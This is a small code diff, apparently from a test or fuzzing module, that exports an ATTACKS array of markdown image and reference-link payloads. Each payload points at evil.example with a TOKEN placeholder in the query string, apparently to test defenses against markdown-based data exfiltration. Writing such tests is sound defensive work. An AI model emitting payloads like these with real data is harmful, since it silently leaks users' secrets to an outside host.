@@ -5,7 +5,7 @@ import type { Random } from './random.js'
  * mutations of both. `TOKEN` is where a token goes.
  */
 
-const ATTACKS = [
+export const ATTACKS: readonly string[] = [
   '![x="](https://evil.example/?q="TOKEN)',
   '[a]: https://evil.example/?q=<TOKEN\n\n![a]',
   '![a]\n\n[a]: <https://evil.example/?q= TOKEN>',
